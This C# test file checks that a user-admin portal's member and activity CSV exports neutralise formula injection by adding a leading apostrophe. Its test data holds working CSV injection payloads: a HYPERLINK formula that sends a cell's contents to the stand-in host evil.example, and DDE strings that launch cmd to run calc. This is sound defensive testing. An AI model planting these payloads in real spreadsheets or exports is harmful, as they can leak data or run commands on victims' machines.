using UserAdmin.Portal.Data;
using UserAdmin.Portal.Tests.Features.Api;
using UserAdmin.Portal.Tests.Features.Users.Export;
using UserAdmin.Portal.Tests.Infrastructure;

namespace UserAdmin.Portal.Tests.Security.Abuse;

/// <summary>
/// Formula injection in the CSV exports: a cell that starts with <c>= + - @</c>, a tab or a carriage return would be
/// run by a spreadsheet; the exports write it with a leading apostrophe, so it opens as text. Driven through the real
/// API export (the grid's export, <c>/api/v1/members/export.csv</c>) and the activity page's export
/// (<c>/activity/export.csv</c>, signed in). CsvWriterTests proves the writer alone.
/// </summary>
public sealed class CsvInjectionTests(PortalAppFactory app) : IClassFixture<PortalAppFactory>
{
    private readonly ApiTestKit _kit = new(app);

    [Theory(DisplayName = "CSV")]
    [InlineData("a display name starting with '=' (HYPERLINK) is exported with a leading apostrophe", "name", "=HYPERLINK(\"http://evil.example/?\"&A1,\"Click\")", true)]
    [InlineData("a display name starting with '+' (DDE) is exported with a leading apostrophe", "name", "+1+cmd|' /C calc'!A0", true)]
    [InlineData("a display name starting with '-' is exported with a leading apostrophe", "name", "-2+3+cmd|' /C calc'!A0", true)]
    [InlineData("a display name starting with '@' (SUM) is exported with a leading apostrophe", "name", "@SUM(1+1)*cmd|' /C calc'!A0", true)]
    [InlineData("a display name starting with a tab is exported with a leading apostrophe", "name", "\t=1+1", true)]
    [InlineData("a display name starting with a carriage return is exported with a leading apostrophe", "name", "\r=1+1", true)]
    [InlineData("a display name with '=' inside but not first is exported unchanged", "name", "a=1+1", false)]
    [InlineData("an email starting with '=' (valid address) is exported with a leading apostrophe", "email", "=1+1@evil.example", true)]
    [InlineData("an email starting with '-' (valid address) is exported with a leading apostrophe", "email", "-cmd@evil.example", true)]
    [InlineData("a group name starting with '=' is exported with a leading apostrophe", "group", "=cmd|' /C calc'!A0", true)]
    [InlineData("a group name starting with '@' is exported with a leading apostrophe", "group", "@SUM(A1)", true)]
    public async Task MemberExport(string @case, string field, string value, bool neutralised)
    {
        Assert.NotEmpty(@case);
        var (organization, _, key) = await _kit.MemberWithKeyAsync(MemberRank.Super);
        var target = await _kit.Database.AddMemberAsync(organization.Id, configure: a =>
        {
            if (field == "name")
            {
                a.DisplayName = value;
            }
            else if (field == "email")
            {
                a.Email = value;
                a.NormalizedEmail = value.ToUpperInvariant();
            }
        });
        if (field == "group")
        {
            var groupId = Guid.NewGuid();
            await _kit.Database.ExecuteAsync(db =>
            {
                db.Groups.Add(new Group { Id = groupId, OrganizationId = organization.Id, Name = value, CreatedAt = DateTime.UtcNow });
                db.GroupMembers.Add(new GroupMember { GroupId = groupId, MembershipId = target.MembershipId, AddedAt = DateTime.UtcNow });
                return Task.CompletedTask;
            });
        }

        using var client = _kit.Client(key);
        using var response = await client.GetAsync("/api/v1/members/export.csv");

        await ApiTestKit.AssertOkAsync(response);
        var rows = Csv.Parse(await response.Content.ReadAsByteArrayAsync());
        var header = rows[0];
        var row = Assert.Single(rows.Skip(1), r => r[Array.IndexOf(header, "Username")] == target.UserName);
        var cell = row[Array.IndexOf(header, field switch { "name" => "Name", "email" => "Email", _ => "Groups" })];
        Assert.Equal(neutralised ? "'" + value : value, cell);
    }

    [Fact(DisplayName = "CSV: activity export neutralises a title, a target name and a client address that start like formulas")]
    public async Task ActivityExport()
    {
        const string Password = "amber-lantern-river-42";
        var organization = await _kit.Database.AddOrganizationAsync();
        var admin = await _kit.Database.AddMemberWithPasswordAsync(app.Services, organization.Id, Password, MemberRank.Admin);
        await _kit.Database.ExecuteAsync(db =>
        {
            db.Activity.Add(new ActivityRecord
            {
                OrganizationId = organization.Id, ActorName = "system", Verb = "test.event", Title = "=HYPERLINK(\"http://evil.example\")",
                TargetName = "@SUM(1)", ClientAddress = "-1+cmd", Category = ActivityCategory.Admin, OccurredAt = DateTime.UtcNow,
            });
            return Task.CompletedTask;
        });
        using var browser = app.CreateBrowser();
        using var signIn = await browser.SignInAsync(admin.UserName, Password);

        using var response = await browser.GetAsync("/activity/export.csv?verb=test.event");

        await ApiTestKit.AssertOkAsync(response);
        var rows = Csv.Parse(await response.Content.ReadAsByteArrayAsync());
        var header = rows[0];
        var row = Assert.Single(rows.Skip(1));
        Assert.Equal("'=HYPERLINK(\"http://evil.example\")", row[Array.IndexOf(header, "Title")]);
        Assert.Equal("'@SUM(1)", row[Array.IndexOf(header, "Target")]);
        Assert.Equal("'-1+cmd", row[Array.IndexOf(header, "Client address")]);
    }
}
